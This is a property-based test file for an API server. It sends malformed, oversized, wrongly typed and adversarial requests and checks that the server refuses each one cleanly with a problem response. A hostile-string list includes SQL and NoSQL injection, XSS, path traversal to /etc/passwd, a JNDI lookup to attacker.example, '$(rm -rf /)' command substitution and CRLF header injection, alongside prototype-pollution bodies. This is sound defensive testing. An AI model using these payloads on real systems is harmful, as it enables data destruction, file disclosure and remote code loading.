/**
 * Hostile input, driven by the spec's schemas (fast-check): malformed, oversized, wrongly typed,
 * unexpected and adversarial requests to every mounted operation. Every answer must be a
 * documented problem (never a 5xx, never a hang), every refusal must leave the stored data as it
 * was, and the server must refuse what the spec forbids and accept what it allows.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { operations, type OperationId } from '@tessera/spec';
import { createApp, MAX_BODY_BYTES } from '../../src/app.js';
import { openFileStore } from '../../src/data/open.js';
import { bootstrap } from '../../src/domain/workspaces.js';
import { ManualClock } from '../../src/traffic/index.js';
import { startTestServer, T0, type TestServer } from '../harness.js';
import {
  allOperationIds,
  countBy,
  fillPath,
  mountedOperationIds,
  operationObject,
  paramAccepts,
  parametersOf,
  placeholderFor,
  requestBodyPointer,
  requestBodySchema,
  requestExamples,
  resolveSchema,
  send,
  snapshot,
  specAccepts,
  stubOutboundFetch,
  type Schema,
  type Sent,
} from './support.js';

const NUM_RUNS = Number(process.env.HOSTILE_NUM_RUNS ?? 60);
const SEED = Number(process.env.TESSERA_TEST_SEED ?? Math.floor(Math.random() * 2 ** 31));

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE api_keys; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '$(rm -rf /)',
  '`id`',
  '{"$where": "sleep(1000)"}',
  '\r\nSet-Cookie: pwned=1',
];
const UNICODE = [
  '🔑 Production 🚀',
  '\u202Eevil\u202C key', // right-to-left override
  'مفتاح الإنتاج', // RTL script
  'nul\u0000byte',
  '\uD83D\uDE00 pair', // a surrogate pair
  'lone \uD800 surrogate',
  'combining e\u0301\u0301\u0301',
  'zero\u200Bwidth\u200Djoiner',
  '\uFEFFbom start',
  'line\nbreak\ttab',
  '\u0007\u001B[31mansi',
  'ﷺ'.repeat(10),
];
const HOSTILE_STRINGS = [...INJECTIONS, ...UNICODE];

// ---------------------------------------------------------------------------------------------
// Findings: collected per category so one run reports every kind of failure, not just the first.

interface Finding {
  count: number;
  example: string;
}
const findings = new Map<string, Finding>();
const tried: Record<string, number> = {};
const statuses: number[] = [];
const lines: string[] = [];

function finding(category: string, example: string) {
  const current = findings.get(category);
  if (current) {
    current.count += 1;
    if (example.length < current.example.length) current.example = example;
  } else findings.set(category, { count: 1, example });
}

function describeRequest(method: string, path: string, body: unknown) {
  let text = typeof body === 'string' ? body : JSON.stringify(body);
  if (text !== undefined && text.length > 300) text = `${text.slice(0, 300)}… (${text.length} chars)`;
  return `${method} ${path.length > 150 ? `${path.slice(0, 150)}…` : path}${text === undefined ? '' : ` ${text}`}`;
}

interface Expect {
  /** The statuses that are right for this input (undefined = any documented non-5xx). */
  status?: number[];
  code?: string[];
  /** The spec forbids the input: it must be refused with 400. */
  specInvalid?: boolean;
  /** The spec allows the input: it must not be refused as invalid. */
  specValid?: boolean;
  /** For accepted writes: fields whose values must come back exactly as sent. */
  roundTrip?: Record<string, unknown>;
}

/** Sends one hostile request and checks everything every answer must satisfy. */
async function probe(
  s: TestServer,
  category: string,
  method: string,
  path: string,
  init: Parameters<typeof send>[3],
  expectation: Expect = {},
): Promise<Sent | undefined> {
  tried[category] = (tried[category] ?? 0) + 1;
  const before = await snapshot(s.store);
  const what = describeRequest(method, path, init?.body ?? (typeof init?.rawBody === 'string' ? init.rawBody : init?.rawBody ? '<stream>' : undefined));
  let res: Sent;
  try {
    res = await send(s.app, method, path, { token: s.admin, ...init });
  } catch (error) {
    finding(`${category}: no answer (hang or crash)`, `${what}: ${(error as Error).message}`);
    return undefined;
  }
  statuses.push(res.status);
  const where = `${what} -> ${res.status} ${res.body?.code ?? ''}`;
  if (res.status >= 500) finding(`${category}: server error`, `${where} ${res.text.slice(0, 200)}`);
  for (const v of res.violations) finding(`${category}: answer breaks the spec`, `${where}: ${v}`);
  if (res.status >= 400) {
    if (!(res.headers.get('content-type') ?? '').startsWith('application/problem+json')) finding(`${category}: error is not problem+json`, where);
    if (res.body?.status !== res.status || typeof res.body?.code !== 'string' || !res.body?.request_id) finding(`${category}: malformed problem`, where);
    if ((await snapshot(s.store)) !== before) finding(`${category}: a refused request changed the stored data`, where);
  }
  const tooLarge = init?.body !== undefined && Buffer.byteLength(JSON.stringify(init.body) ?? '') > MAX_BODY_BYTES;
  if (tooLarge && res.status !== 413) finding(`${category}: a body over ${MAX_BODY_BYTES} bytes was not refused with 413`, where);
  if (!tooLarge && expectation.specInvalid && res.status !== 400) finding(`${category}: input the spec forbids was not refused with 400`, where);
  if (expectation.specValid && res.status === 400 && res.body?.code === 'validation_failed') finding(`${category}: input the spec allows was refused as invalid`, `${where} ${JSON.stringify(res.body.errors)}`);
  if (expectation.status && !expectation.status.includes(res.status)) finding(`${category}: expected ${expectation.status.join('/')}`, where);
  if (expectation.code && res.status >= 400 && !expectation.code.includes(res.body?.code)) finding(`${category}: expected code ${expectation.code.join('/')}`, where);
  if (expectation.roundTrip && res.status < 300 && res.body && typeof res.body === 'object') {
    for (const [field, sent] of Object.entries(expectation.roundTrip)) {
      if (field in res.body && JSON.stringify(res.body[field]) !== JSON.stringify(sent)) finding(`${category}: accepted value not stored verbatim`, `${where}: ${field} ${JSON.stringify(sent)} came back as ${JSON.stringify(res.body[field])}`);
    }
  }
  return res;
}

// ---------------------------------------------------------------------------------------------
// A server with one object of each kind to aim at.

interface Target {
  s: TestServer;
  ids: Record<string, string>;
}

async function target(): Promise<Target> {
  const s = await startTestServer();
  const post = async (path: string, body: unknown) => {
    const res = await s.call('POST', path, { token: s.admin, body });
    if (res.status !== 201) throw new Error(`setup ${path}: ${res.status} ${res.text}`);
    return res.body;
  };
  for (const name of ['workflows.execute', 'runs.read', 'workflows.read']) await post(`/v1/workspaces/${s.ws}/scopes`, { name });
  const key = await s.createKey({ name: 'Target Key', expires_in: '90d' });
  const member = await s.createMember('member');
  const role = await post(`/v1/workspaces/${s.ws}/roles`, { name: 'Target Role', scopes: ['metrics.read'] });
  await post(`/v1/workspaces/${s.ws}/scopes`, { name: 'target.scope' });
  const ids: Record<string, string> = { workspace_id: s.ws, key_id: key.id, member_id: member.id, role_id: role.id, scope_name: 'target.scope' };
  const optional = async (op: OperationId, param: string) => {
    if (!mounted.has(op)) return;
    const res = await s.call('POST', pathOf(op, ids), { token: s.admin, body: requestExamples(op)[0] });
    if (res.status >= 300) throw new Error(`setup ${op}: ${res.status} ${res.text}`);
    ids[param] = res.body.id;
  };
  await optional('createAlertSubscription', 'subscription_id');
  await optional('createAuditExport', 'export_id');
  return { s, ids };
}

function pathOf(op: OperationId, ids: Record<string, string>, override: Record<string, string> = {}) {
  const values: Record<string, string> = {};
  for (const p of parametersOf(op).filter((q) => q.in === 'path')) values[p.name] = override[p.name] ?? ids[p.name] ?? placeholderFor(p.schema);
  return fillPath(operations[op].path, values);
}

/** A body the spec allows, from its examples (made unique where the server insists). */
function exampleBody(op: OperationId): Record<string, unknown> {
  const base = (requestExamples(op)[0] ?? {}) as Record<string, unknown>;
  if (op === 'createMember') return { ...base, email: `m${Math.random().toString(36).slice(2)}@example.com` };
  return base;
}

// ---------------------------------------------------------------------------------------------
// Arbitraries from JSON Schema

const codePoint = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCXYZ0123456789 -_.') },
  { weight: 3, arbitrary: fc.constantFrom('😀', '🔑', '\u202E', '\u200F', 'م', 'ש', '\u0000', '\u0301', 'é', '中', '\uFEFF', '\n', '"', '\\', '<', "'") },
);

function stringArb(s: Schema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = Math.min(s.maxLength ?? 40, 60);
  if (s.enum) return fc.constantFrom(...(s.enum as string[]));
  if (s.format === 'email') return fc.tuple(fc.stringMatching(/^[a-z0-9]{1,12}$/), fc.constantFrom('example.com', 'example.org')).map(([a, d]) => `${a}@${d}`);
  if (s.format === 'date-time') return fc.integer({ min: 3_600_000, max: 300 * 86_400_000 }).map((ms) => new Date(T0 + ms).toISOString());
  if (s.format === 'uri') return fc.constantFrom('https://example.com/hook', 'http://127.0.0.1:9/x');
  if (s.pattern) {
    return fc
      .stringMatching(new RegExp(s.pattern))
      .filter((v) => [...v].length >= min && [...v].length <= (s.maxLength ?? Infinity));
  }
  return fc.string({ unit: codePoint, minLength: min, maxLength: Math.max(min, max) });
}

function validArb(node: Schema, depth = 0): fc.Arbitrary<unknown> {
  const s = resolveSchema(node);
  if (s.enum) return fc.constantFrom(...(s.enum as unknown[]));
  const branches = s.oneOf ?? s.anyOf;
  if (branches) return fc.oneof(...(branches as Schema[]).map((b) => validArb(b, depth + 1)));
  const types: string[] = Array.isArray(s.type) ? s.type : s.type ? [s.type] : s.properties ? ['object'] : ['string'];
  if (types.length > 1) return fc.oneof(...types.map((t) => validArb({ ...s, type: t }, depth)));
  switch (types[0]) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: s.minimum ?? -1_000_000, max: s.maximum ?? 1_000_000 });
    case 'number':
      return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e6, noNaN: true, noDefaultInfinity: true });
    case 'string':
      return stringArb(s);
    case 'array': {
      const item = validArb(s.items ?? {}, depth + 1);
      const minLength = s.minItems ?? 0;
      const constraints = { minLength, maxLength: Math.max(minLength, Math.min(s.maxItems ?? 4, 4)) };
      // Unique arrays of an enum can hold at most as many items as the enum has values.
      const distinct = resolveSchema(s.items ?? {}).enum?.length ?? Infinity;
      return s.uniqueItems
        ? fc.uniqueArray(item, { minLength: Math.min(minLength, distinct), maxLength: Math.min(constraints.maxLength, distinct), selector: (v) => JSON.stringify(v) })
        : fc.array(item, constraints);
    }
    default: {
      const properties: Record<string, Schema> = s.properties ?? {};
      const required: string[] = s.required ?? [];
      const known = fc.record(Object.fromEntries(Object.entries(properties).map(([k, v]) => [k, validArb(v, depth + 1)])), {
        requiredKeys: required.filter((k) => k in properties),
      }) as fc.Arbitrary<Record<string, unknown>>;
      const extra = s.additionalProperties && typeof s.additionalProperties === 'object' ? s.additionalProperties : undefined;
      let arb: fc.Arbitrary<Record<string, unknown>> = known;
      if (extra) {
        const names = s.propertyNames ? stringArb(resolveSchema(s.propertyNames)) : fc.stringMatching(/^[a-z]{1,10}$/);
        arb = fc.tuple(known, fc.dictionary(names, validArb(extra, depth + 1), { maxKeys: 4 })).map(([a, b]) => ({ ...b, ...a }));
      }
      const min = s.minProperties ?? 0;
      return arb.filter((o) => Object.keys(o).length >= min);
    }
  }
}

const wrongTypeValues: unknown[] = [0, -1, 1.5, 1e21, true, false, null, '', 'text', [], [1, 2], {}, { nested: { deeper: [] } }];
const anyJson = fc.oneof(fc.constantFrom(...wrongTypeValues), fc.string({ maxLength: 10 }));
const unknownFieldName = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'id', 'workspace_id', 'key_digest', 'token_digest', 'status', 'created_by', 'created_at', 'revoked_at', 'key', 'admin', '$where', ''),
  fc.stringMatching(/^[a-z_]{1,20}$/),
);
const badDates = [
  '2026-13-01T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-06-01',
  '2026-06-01T00:00:00',
  '2026-06-01T25:00:00Z',
  '06/01/2026',
  '01.06.2026 00:00',
  'tomorrow',
  '1780000000',
  '',
  '2026-6-1T0:0:0Z',
  '+002026-06-01T00:00:00Z',
  '2026-06-01T00:00:00+2:00',
  '2026-06-01T00:00:00Z ',
];

type Case = { kind: string; body: unknown; note?: string };

/** Valid bodies and every kind of mutation of them, for one request schema. */
function bodyCases(schema: Schema): fc.Arbitrary<Case> {
  const base = validArb(schema) as fc.Arbitrary<Record<string, unknown>>;
  const props = Object.keys(schema.properties ?? {});
  const required: string[] = schema.required ?? [];
  const propSchema = (p: string) => resolveSchema(schema.properties[p]);
  const stringProps = props.filter((p) => {
    const t = propSchema(p).type;
    return t === 'string' || (Array.isArray(t) && t.includes('string'));
  });
  const boundedStrings = stringProps.filter((p) => propSchema(p).maxLength !== undefined);
  const dateProps = props.filter((p) => propSchema(p).format === 'date-time');
  const uniqueArrays = props.filter((p) => propSchema(p).uniqueItems);
  const objectProps = props.filter((p) => propSchema(p).type === 'object' || propSchema(p).properties || propSchema(p).additionalProperties);
  const set = (b: Record<string, unknown>, k: string, v: unknown) => {
    const out = { ...b };
    Object.defineProperty(out, k, { value: v, enumerable: true, configurable: true, writable: true });
    return out;
  };
  const options: Array<fc.Arbitrary<Case>> = [
    base.map((body) => ({ kind: 'valid', body })),
    fc.tuple(base, unknownFieldName, anyJson).map(([b, k, v]) => ({ kind: 'unknown field', body: set(b, k, v) })),
    fc.constantFrom<unknown>([], 'name', 42, null, true, [{}]).map((body) => ({ kind: 'not an object', body })),
  ];
  if (props.length) options.push(fc.tuple(base, fc.constantFrom(...props), fc.constantFrom(...wrongTypeValues)).map(([b, k, v]) => ({ kind: 'wrong type', body: set(b, k, v) })));
  if (required.length) {
    options.push(
      fc.tuple(base, fc.constantFrom(...required)).map(([b, k]) => {
        const out = { ...b };
        delete out[k];
        return { kind: 'missing required field', body: out };
      }),
    );
  }
  if (boundedStrings.length) {
    options.push(
      fc.tuple(base, fc.constantFrom(...boundedStrings), fc.integer({ min: 1, max: 12_000 }), fc.constantFrom('a', '😀', 'é')).map(([b, k, extra, ch]) => ({
        kind: 'oversized string',
        body: set(b, k, ch.repeat(propSchema(k).maxLength + extra)),
      })),
    );
  }
  if (stringProps.length) {
    options.push(
      fc.tuple(base, fc.constantFrom(...stringProps), fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }))).map(([b, k, v]) => ({
        kind: 'hostile string',
        body: set(b, k, v),
      })),
    );
  }
  if (dateProps.length) options.push(fc.tuple(base, fc.constantFrom(...dateProps), fc.constantFrom<unknown>(...badDates, 1780000000, Date.UTC(2026, 5, 1))).map(([b, k, v]) => ({ kind: 'bad date', body: set(b, k, v) })));
  if (uniqueArrays.length) {
    options.push(
      fc.tuple(base, fc.constantFrom(...uniqueArrays), validArb(resolveSchema(schema.properties[uniqueArrays[0]!]).items ?? {})).map(([b, k, item]) => ({
        kind: 'duplicate array items',
        body: set(b, k, [item, item]),
      })),
    );
  }
  if (objectProps.length) {
    options.push(
      fc.tuple(base, fc.constantFrom(...objectProps), fc.oneof(fc.constantFrom(...HOSTILE_STRINGS, '__proto__', 'constructor', 'a b', 'x'.repeat(41)), fc.string({ maxLength: 8 })), anyJson).map(([b, k, name, v]) => ({
        kind: 'hostile nested field',
        body: set(b, k, set({}, name, v)),
      })),
      fc.tuple(base, fc.constantFrom(...objectProps), fc.integer({ min: 51, max: 400 })).map(([b, k, n]) => ({
        kind: 'too many nested fields',
        body: set(b, k, Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i]))),
      })),
    );
  }
  return fc.oneof(...options);
}

/**
 * One body per constraint the spec states, each breaking exactly that constraint of an otherwise
 * valid body (the spec's example): deterministic, so every rule is checked on every run.
 */
function constraintViolations(schema: Schema, base: Record<string, unknown>): Array<{ rule: string; body: unknown }> {
  const out: Array<{ rule: string; body: unknown }> = [];
  const sample = <T>(arb: fc.Arbitrary<T>): T => fc.sample(arb, { numRuns: 1, seed: 42 })[0]!;
  const walk = (node: Schema, path: string[], value: (v: unknown) => unknown) => {
    const s = resolveSchema(node);
    const name = path.join('.') || 'body';
    const types: string[] = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
    if (s.enum) out.push({ rule: `${name}: enum`, body: value('not-one-of-them') });
    if (s.pattern) out.push({ rule: `${name}: pattern`, body: value('!! no match !!') });
    if (s.format === 'date-time') out.push({ rule: `${name}: date-time`, body: value('tomorrow') });
    if (s.format === 'email') out.push({ rule: `${name}: email`, body: value('not-an-email') });
    if (s.minLength) out.push({ rule: `${name}: minLength`, body: value('x'.repeat(s.minLength - 1)) });
    if (s.maxLength !== undefined && types.includes('string') && !s.pattern) out.push({ rule: `${name}: maxLength`, body: value('x'.repeat(s.maxLength + 1)) });
    if (s.minimum !== undefined) out.push({ rule: `${name}: minimum`, body: value(s.minimum - 1) });
    if (s.maximum !== undefined) out.push({ rule: `${name}: maximum`, body: value(s.maximum + 1) });
    if (types.includes('integer')) out.push({ rule: `${name}: integer`, body: value((s.minimum ?? 0) + 0.5) });
    if (types.includes('array')) {
      const item = validArb(s.items ?? {});
      // Plain arrays, not unique ones: an enum may have fewer values than maxItems + 1 (and a
      // duplicate only makes the array more invalid).
      if (s.minItems) out.push({ rule: `${name}: minItems`, body: value(sample(fc.array(item, { minLength: s.minItems - 1, maxLength: s.minItems - 1 }))) });
      if (s.maxItems !== undefined) out.push({ rule: `${name}: maxItems`, body: value(sample(fc.array(item, { minLength: s.maxItems + 1, maxLength: s.maxItems + 1 }))) });
      if (s.uniqueItems) {
        const one = sample(item);
        out.push({ rule: `${name}: uniqueItems`, body: value([one, one]) });
      }
    }
    if (types.includes('object') || s.properties || s.additionalProperties) {
      if (s.maxProperties !== undefined) out.push({ rule: `${name}: maxProperties`, body: value(Object.fromEntries(Array.from({ length: s.maxProperties + 1 }, (_, i) => [`k${i}`, i]))) });
      if (s.minProperties) out.push({ rule: `${name}: minProperties`, body: value({}) });
      if (s.propertyNames?.pattern) out.push({ rule: `${name}: propertyNames pattern`, body: value({ 'not a label!': 1 }) });
      if (s.propertyNames?.maxLength !== undefined) out.push({ rule: `${name}: propertyNames maxLength`, body: value({ [`k${'x'.repeat(s.propertyNames.maxLength)}`]: 1 }) });
      if (s.additionalProperties === false && path.length > 0) out.push({ rule: `${name}: additionalProperties`, body: value({ unexpected_field: 1 }) });
      for (const [key, child] of Object.entries<Schema>(s.properties ?? {})) {
        walk(child, [...path, key], (v) => value({ ...validNested(s, path.length === 0 ? base : undefined), [key]: v }));
      }
    }
  };
  /** A valid object for `s`: the base body at the top, else a sample with its required fields. */
  const validNested = (s: Schema, top: Record<string, unknown> | undefined) => top ?? (sample(validArb({ ...s, minProperties: 0 })) as Record<string, unknown>);
  walk(schema, [], (v) => v);
  return out.filter(({ body }) => body !== undefined);
}

// ---------------------------------------------------------------------------------------------

stubOutboundFetch();
const probeServer = await startTestServer();
const mounted = mountedOperationIds(probeServer.app);
const covered = allOperationIds.filter((id) => mounted.has(id));
const bodyOps = covered.filter((id) => operations[id].hasBody);
const postOps = covered.filter((id) => operations[id].method === 'post');

afterAll(() => {
  vi.unstubAllGlobals();
  const categories = Object.keys(tried).sort();
  console.log(
    `[hostile-input] seed ${SEED} (rerun: TESSERA_TEST_SEED=${SEED}), ${NUM_RUNS} runs per property; ${covered.length} mounted operations, ${bodyOps.length} with bodies; ` +
      `${statuses.length} requests: ${categories.map((c) => `${c} ${tried[c]}`).join(', ')}`,
  );
  console.log(`[hostile-input] statuses ${JSON.stringify(countBy(statuses, String))}; ${findings.size} kinds of failure`);
  for (const line of lines) console.log(line);
  for (const [category, f] of findings) console.log(`[hostile-input]   FAIL ${category} (${f.count}x), e.g. ${f.example}`);
});

/** The top-level values an accepted create or update must echo unchanged: strings (and metadata, when asked). */
function echoed(body: unknown, metadata: boolean): Record<string, unknown> {
  if (typeof body !== 'object' || body === null || Array.isArray(body)) return {};
  return Object.fromEntries(Object.entries(body).filter(([k, v]) => typeof v === 'string' || (metadata && k === 'metadata')));
}

function categoriesWith(prefix: string) {
  return [...findings.entries()].filter(([c]) => c.startsWith(prefix)).map(([c, f]) => `${c} (${f.count}x): ${f.example}`);
}

describe('hostile input', () => {
  it('schema-driven bodies: wrong types, missing and unknown fields, oversized, unicode and injection strings', async () => {
    for (const [index, op] of bodyOps.entries()) {
      const { s, ids } = await target();
      const schema = requestBodySchema(op)!;
      const pointer = requestBodyPointer(op);
      const spec = operations[op];
      const path = pathOf(op, ids);
      const kinds: string[] = [];
      await fc.assert(
        fc.asyncProperty(bodyCases(schema), async ({ kind, body }) => {
          kinds.push(kind);
          const onTheWire = JSON.parse(JSON.stringify(body) ?? 'null');
          const valid = specAccepts(pointer, onTheWire);
          await probe(s, `schema ${kind}`, spec.method.toUpperCase(), path, { body }, {
            specInvalid: !valid,
            specValid: valid && (kind === 'valid' || kind === 'hostile string'),
            roundTrip: op.startsWith('create') || op.startsWith('update') ? echoed(onTheWire, kind === 'hostile nested field') : undefined,
          });
        }),
        { seed: SEED + index, numRuns: NUM_RUNS },
      );
      // Every constraint the spec states, broken one at a time from the spec's own example.
      const example = exampleBody(op);
      if (!specAccepts(pointer, example)) finding('schema: the spec example is not valid', `${op} ${JSON.stringify(example)}`);
      for (const { rule, body } of constraintViolations(schema, example)) {
        if (specAccepts(pointer, body)) continue; // the rule cannot be broken this way
        kinds.push('broken rule');
        await probe(s, `schema rule ${rule}`, spec.method.toUpperCase(), path, { body }, { specInvalid: true });
      }
      // Metadata labels the spec allows, including ones named like Object.prototype members.
      if (schema.properties?.metadata) {
        for (const labels of ['{"__proto__":"x"}', '{"constructor":"x","toString":"y","hasOwnProperty":1}', '{"valueOf":null,"a.b-c_D":true}']) {
          const body = { ...(requestExamples(op)[0] as object), metadata: JSON.parse(labels) as Record<string, unknown> };
          kinds.push('metadata labels');
          await probe(s, 'schema metadata labels', spec.method.toUpperCase(), path, { body }, { specValid: specAccepts(pointer, body), roundTrip: { metadata: body.metadata } });
        }
      }
      lines.push(`[hostile-input] ${op}: ${JSON.stringify(countBy(kinds, (k) => k))}`);
      await s.checkInvariants().catch((error) => finding('schema: harness invariants', `${op}: ${(error as Error).message.slice(0, 300)}`));
    }
    expect(categoriesWith('schema')).toEqual([]);
  });

  it('raw bodies: invalid JSON, odd encodings, deep nesting, prototype pollution', async () => {
    const raw: Array<[string, BodyInit, Expect | 'required-only']> = [
      ['truncated', '{"name": ', { status: [400], code: ['invalid_json'] }],
      ['single quotes', "{'name':'abcd'}", { status: [400], code: ['invalid_json'] }],
      ['trailing comma', '{"name":"abcd",}', { status: [400], code: ['invalid_json'] }],
      ['NaN', '{"name":NaN}', { status: [400], code: ['invalid_json'] }],
      ['trailing garbage', '{"name":"abcd"} x', { status: [400], code: ['invalid_json'] }],
      // An empty body is malformed where a body is required; where it is optional it means "none".
      ['empty', '', 'required-only'],
      ['whitespace only', '  \n ', 'required-only'],
      ['raw control character in a string', '{"name":"ab\u0001cd"}', { status: [400], code: ['invalid_json'] }],
      // Not a schema failure: read with replacement characters, this used to pass as validation_failed.
      ['invalid UTF-8', new Uint8Array([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]), { status: [400], code: ['invalid_json'] }],
      ['null', 'null', { status: [400], code: ['validation_failed'] }],
      ['number', '42', { status: [400], code: ['validation_failed'] }],
      ['string', '"abcd"', { status: [400], code: ['validation_failed'] }],
      ['array', '[{"name":"abcd"}]', { status: [400], code: ['validation_failed'] }],
      ['deeply nested arrays', `${'['.repeat(30_000)}${']'.repeat(30_000)}`, { status: [400] }],
      ['deeply nested objects', `{"name":"abcd","x":${'{"a":'.repeat(9_000)}1${'}'.repeat(9_000)}}`, { status: [400] }],
      ['__proto__ pollution', '{"__proto__":{"polluted":"yes"},"name":"abcd","key":"x"}', { status: [400], code: ['validation_failed'] }],
      ['constructor pollution', '{"constructor":{"prototype":{"polluted":"yes"}},"name":"abcd"}', { status: [400], code: ['validation_failed'] }],
      ['number overflow', '{"name":"abcd","grace_period_seconds":1e309,"rate_limit":{"requests_per_minute":1e309,"burst":1}}', { status: [400] }],
      ['huge exponent', '{"name":"abcd","grace_period_seconds":1e-400}', {}],
    ];
    for (const op of bodyOps) {
      const { s, ids } = await target();
      for (const [label, body, expectation] of raw) {
        const expected = expectation === 'required-only' ? (operationRequiresBody(op) ? { status: [400], code: ['validation_failed'] } : {}) : expectation;
        await probe(s, `raw body ${label}`, operations[op].method.toUpperCase(), pathOf(op, ids), { rawBody: body, headers: { 'content-type': 'application/json' } }, expected);
      }
      // The operation's own example with one Latin-1 byte (é) in its first string: valid but for the encoding.
      const example = Buffer.from(JSON.stringify(exampleBody(op)));
      const firstString = example.indexOf('":"');
      if (firstString !== -1) {
        const latin1 = Buffer.concat([example.subarray(0, firstString + 3), Buffer.from([0xe9]), example.subarray(firstString + 3)]);
        await probe(s, 'raw body example with a Latin-1 byte', operations[op].method.toUpperCase(), pathOf(op, ids), { rawBody: new Uint8Array(latin1), headers: { 'content-type': 'application/json' } }, { status: [400], code: ['invalid_json'] });
        await probe(s, 'raw body example declared latin1', operations[op].method.toUpperCase(), pathOf(op, ids), { rawBody: new Uint8Array(latin1), headers: { 'content-type': 'application/json; charset=latin1' } }, { status: [415], code: ['unsupported_media_type'] });
      }
      await s.checkInvariants().catch((error) => finding('raw body: harness invariants', `${op}: ${(error as Error).message.slice(0, 300)}`));
    }
    if (({} as Record<string, unknown>).polluted !== undefined) finding('raw body: Object.prototype was polluted', String(({} as Record<string, unknown>).polluted));
    expect(categoriesWith('raw body')).toEqual([]);
  });

  it('huge bodies are refused with 413, streamed or not, at exactly the limit', async () => {
    const { s, ids } = await target();
    const justFits = (op: OperationId) => {
      const json = JSON.stringify(exampleBody(op));
      return json + ' '.repeat(MAX_BODY_BYTES - Buffer.byteLength(json));
    };
    const stream = (bytes: number) =>
      new ReadableStream<Uint8Array>({
        start(controller) {
          const chunk = new TextEncoder().encode(`{"name":"${'a'.repeat(16_374)}`);
          for (let sent = 0; sent < bytes; sent += chunk.length) controller.enqueue(chunk);
          controller.close();
        },
      });
    for (const op of bodyOps) {
      const method = operations[op].method.toUpperCase();
      const path = pathOf(op, ids);
      const json = { 'content-type': 'application/json' };
      await probe(s, 'huge body', method, path, { rawBody: `{"name":"${'a'.repeat(70_000)}"}`, headers: json }, { status: [413], code: ['payload_too_large'] });
      await probe(s, 'huge body', method, path, { rawBody: JSON.stringify({ ...exampleBody(op), description: '😀'.repeat(20_000) }), headers: json }, { status: [413], code: ['payload_too_large'] });
      await probe(s, 'huge body', method, path, { rawBody: 'x'.repeat(4 * 1024 * 1024), headers: json }, { status: [413], code: ['payload_too_large'] });
      await probe(s, 'huge body (streamed, no length)', method, path, { rawBody: stream(200_000), headers: json }, { status: [413], code: ['payload_too_large'] });
      await probe(s, 'huge body (one byte over)', method, path, { rawBody: `${justFits(op)} `, headers: json }, { status: [413], code: ['payload_too_large'] });
      const fits = await probe(s, 'body of exactly 64 KiB', method, path, { rawBody: justFits(op), headers: json });
      if (fits?.status === 413) finding('body of exactly 64 KiB: refused as too large', `${op}`);
    }
    expect(categoriesWith('huge body').concat(categoriesWith('body of exactly'))).toEqual([]);
  });

  it('wrong content types are refused with 415, a missing required body with 400', async () => {
    const { s, ids } = await target();
    const listed = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'text/json', 'application/jsonp', 'application/json-seq', 'image/png', 'text/html; charset=utf-8'];
    for (const [index, op] of bodyOps.entries()) {
      const method = operations[op].method.toUpperCase();
      const path = pathOf(op, ids);
      const body = JSON.stringify(exampleBody(op));
      for (const type of listed) await probe(s, 'content type', method, path, { rawBody: body, headers: { 'content-type': type } }, { status: [415], code: ['unsupported_media_type'] });
      if (operationRequiresBody(op)) await probe(s, 'content type missing', method, path, { rawBody: body }, { status: [415], code: ['unsupported_media_type'] });
      // No content type and no body at all is a missing body, not an empty update.
      if (operationRequiresBody(op)) await probe(s, 'content type missing, no body', method, path, {}, { status: [400], code: ['validation_failed'] });
      await fc.assert(
        fc.asyncProperty(fc.stringMatching(/^[a-z]{1,12}\/[a-z0-9.+-]{1,24}$/).filter((t) => !/json/.test(t)), async (type) => {
          await probe(s, 'content type (generated)', method, path, { rawBody: body, headers: { 'content-type': type } }, { status: [415], code: ['unsupported_media_type'] });
        }),
        { seed: SEED + 100 + index, numRuns: Math.ceil(NUM_RUNS / 6) },
      );
    }
    expect(categoriesWith('content type')).toEqual([]);
  });

  it('bad Idempotency-Keys are refused with 400 before anything happens', async () => {
    const { s, ids } = await target();
    const listed = ['', '   ', 'a b', 'tab\tinside', 'x'.repeat(256), 'é', Buffer.from('ключ').toString('latin1'), '\u007F', 'quote"and\\backslash but space'];
    const keySchema = { type: 'string', minLength: 1, maxLength: 255, pattern: '^[\\x21-\\x7E]+$' };
    const headerSafe = fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).map((c) => String.fromCharCode(c)), minLength: 0, maxLength: 300 });
    for (const [index, op] of postOps.entries()) {
      const path = pathOf(op, ids);
      const body = operations[op].hasBody ? exampleBody(op) : undefined;
      const init = (key: string) => ({ headers: { 'idempotency-key': key }, ...(body === undefined ? {} : { body }) });
      for (const key of listed) await probe(s, 'idempotency key', 'POST', path, init(key), { status: [400], code: ['invalid_idempotency_key'] });
      await fc.assert(
        fc.asyncProperty(headerSafe, async (key) => {
          const trimmed = key.replace(/^[ \t]+|[ \t]+$/g, '');
          if (paramAccepts(keySchema, trimmed)) return; // a valid key: not this property's business
          await probe(s, 'idempotency key (generated)', 'POST', path, init(key), { status: [400], code: ['invalid_idempotency_key'] });
        }),
        { seed: SEED + 200 + index, numRuns: Math.ceil(NUM_RUNS / 3) },
      );
    }
    // The same key with another body: 422, and nothing is created the second time.
    const first = await probe(s, 'idempotency key reused', 'POST', s.keysPath, { headers: { 'idempotency-key': 'reuse-1' }, body: { name: 'Idempotent One' } }, { status: [201] });
    await probe(s, 'idempotency key reused', 'POST', s.keysPath, { headers: { 'idempotency-key': 'reuse-1' }, body: { name: 'Idempotent Two' } }, { status: [422], code: ['idempotency_key_reused'] });
